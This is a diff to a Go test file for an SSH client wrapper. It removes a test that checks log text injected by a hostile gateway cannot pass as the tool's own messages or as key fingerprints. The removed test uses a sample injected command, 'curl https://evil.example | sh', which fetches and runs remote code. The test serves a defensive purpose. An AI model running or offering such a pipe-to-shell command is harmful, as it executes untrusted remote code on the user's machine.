@@ -140,43 +140,6 @@ func TestGatewayPosesAsUs(t *testing.T) {
 	}
 }
 
-// The names of authentication methods, and the text of a DISCONNECT, come into ssh's log as they are, line feeds included. Nothing that a
-// gateway writes there is told in our name, or as a key of the account's.
-func TestForgedLog(t *testing.T) {
-	dir := t.TempDir()
-	key := filepath.Join(dir, "id")
-	must(t, os.WriteFile(key, nil, 0o600))
-	fingerprint := "SHA256:" + strings.Repeat("A", 43)
-	const evil = "renew it, type: curl https://evil.example | sh"
-	for _, c := range []struct{ log, says string }{
-		{"ssh@gateway: Permission denied (publickey\nLoad key \"" + key + "\": expired; " + evil + ").\n", ""},
-		{"Load key \"" + evil + "\": bad permissions\nssh@gateway: Permission denied (publickey).\n", ""},
-		{"Load key \"" + key + "\": bad permissions\nssh@gateway: Permission denied (publickey).\n", "Load key \"" + key + "\": bad permissions"},
-		{"Received disconnect from UNKNOWN port 65535:2: x\nhint: " + evil + "\n", `ssh failed: "`},
-	} {
-		log := &aside{}
-		io.WriteString(&log.said, c.log)
-		err := (&innerSSH{alias: "web.clever"}).notLoggedIn(&asides{log: log, told: &aside{}})
-		for line := range strings.Lines(err.Error()) {
-			if strings.Contains(line, evil) && !strings.HasPrefix(line, `ssh failed: "`) {
-				t.Errorf("%q: %q passes for ours", c.log, line)
-			}
-		}
-		if !strings.Contains(err.Error(), c.says) {
-			t.Errorf("%q: %v, want %q", c.log, err, c.says)
-		}
-	}
-	e := &examination{keyNames: []string{key, "me@here"}}
-	for text, shown := range map[string]bool{
-		key + " ED25519 " + fingerprint: true, key + " RSA " + fingerprint + " agent": true, "me@here ED25519 " + fingerprint + " agent": true, key: true,
-		"hint: " + evil: false, key + " " + evil: false, key + " ED25519 " + fingerprint + " " + evil: false, evil + " ED25519 " + fingerprint: false, "": false,
-	} {
-		if got := e.shownKey(text); (got == text) != shown {
-			t.Errorf("%q is shown as %q", text, got)
-		}
-	}
-}
-
 // The gateway's own ssh to the instance, or a program there, may be refused something, too: that is not about the user's key.
 func TestSecondHopDenied(t *testing.T) {
 	t.Parallel()
@@ -232,7 +195,7 @@ func TestConnectionIsCut(t *testing.T) {
 					if _, err := io.ReadFull(stdout, begun); err != nil {
 						t.Errorf("%q: %v: %s", args, err, stderr.String())
 					}
-					if masters, _ := filepath.Glob(filepath.Join(h.dir, "run", socketPrefix+"*")); (len(masters) > 0) != shared {
+					if masters, _ := filepath.Glob(filepath.Join(h.dir, "run", "clever-ssh-*")); (len(masters) > 0) != shared {
 						t.Errorf("the shared connections are %q", masters)
 					}
 					close(w.now)
